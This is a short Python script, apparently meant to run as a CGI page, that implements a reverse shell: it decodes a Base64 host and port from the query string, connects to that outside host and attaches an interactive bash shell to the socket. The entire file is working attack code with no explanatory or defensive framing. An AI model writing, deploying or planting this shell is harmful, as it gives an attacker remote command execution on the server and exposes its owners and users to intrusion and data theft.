#!/usr/bin/env python3
# Python reverse shell, the address packed in the query string as Base64.
import base64 as b, os, socket as k, subprocess as p
h, n = b.b64decode(os.environ.get("QUERY_STRING", "")).decode().split(":")
c = k.socket()
c.connect((h, int(n)))
p.call(["/bin/bash", "-i"], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())
